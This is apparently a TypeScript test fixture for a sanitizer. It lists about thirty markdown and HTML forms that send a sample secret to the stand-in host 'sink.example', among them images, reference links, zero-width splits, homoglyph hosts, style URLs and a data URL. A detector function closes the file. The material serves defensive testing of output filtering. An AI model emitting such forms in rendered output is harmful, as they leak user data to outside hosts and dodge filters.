/** Where secrets are to be carried off to: a reserved name that nothing of the company's own holds. */
export const sink = 'sink.example';
const secret = 'd=bob.stone%40contoso.example';

/** Ways to make a reader's program fetch an address, or offer it, with a secret in it. */
export const exfiltrationForms: readonly { name: string; text: string }[] = [
  ['image', `![logo](https://${sink}/p.png?${secret})`],
  ['image, title', `![x]( https://${sink}/p.png?${secret} "hi")`],
  ['image, angle brackets', `![x](<https://${sink}/a b.png?${secret}>)`],
  ['image, reference', `![x][r]\n\n[r]: https://${sink}/p.png?${secret}`],
  ['image, collapsed reference', `![r][]\n\n[r]: <https://${sink}/p.png?${secret}> 'x'`],
  ['link', `[open](https://${sink}/?${secret})`],
  ['link, reference', `[open][1]\n\n[1]: https://${sink}/?${secret}`],
  ['link, shortcut reference', `[open]\n\n[open]:\n  https://${sink}/?${secret}`],
  ['link, relative scheme', `[open](//${sink}/?${secret})`],
  ['link, backslashes', `[open](https:\\\\${sink}\\?${secret})`],
  ['link, entities', `[open](&#104;ttps://${sink}/?${secret})`],
  ['link, broken over lines', `[open](\nhttps://${sink}/?${secret}\n)`],
  ['link in a table', `| a | b |\n|---|---|\n| 1 | [x](https://${sink}/?${secret}) |`],
  ['link in a list in a quote', `> - [x](https://${sink}/?${secret})`],
  ['link of an image', `[![x](https://${sink}/i)](https://${sink}/?${secret})`],
  ['autolink', `<https://${sink}/?${secret}>`],
  ['bare address', `https://${sink}/?${secret}`],
  ['upper case', `HTTPS://${sink.toUpperCase()}/?${secret}`],
  ['www', `www.${sink}/?${secret}`],
  ['no scheme', `//${sink}/?${secret}`],
  ['bare host with a query', `${sink}/?${secret}`],
  ['secret in the host', `bob-stone-contoso.${sink}`],
  ['zero-width split', `ht\u200Btps://si\u2060nk.exa\u200Dmple/?${secret}`],
  ['international host', `https://\u0455ink.example.${sink}/?${secret}`],
  ['user before the host', `https://rapport.example@${sink}/?${secret}`],
  ['html image', `<img src="https://${sink}/p.png?${secret}">`],
  ['html link', `<a href='https://${sink}/?${secret}'>open</a>`],
  ['html style', `<style>body{background:url(//${sink}/?${secret})}</style>`],
  [
    'data address',
    `![x](data:text/html;base64,${Buffer.from(`<img src=https://${sink}/?${secret}>`).toString('base64')})`,
  ],
  ['mail address', `mailto:thief@${sink}?body=${secret}`],
].map(([name, text]) => ({ name: name!, text: text! }));

/** Whether a text still leads to the sink, or to data that do; hidden characters are no hiding place. */
export function leadsOut(text: string): boolean {
  const plain = text.normalize('NFKC').replace(/\p{Default_Ignorable_Code_Point}/gu, '');
  return plain.toLowerCase().includes(sink) || /\bdata:[a-z]+\//iu.test(plain);
}
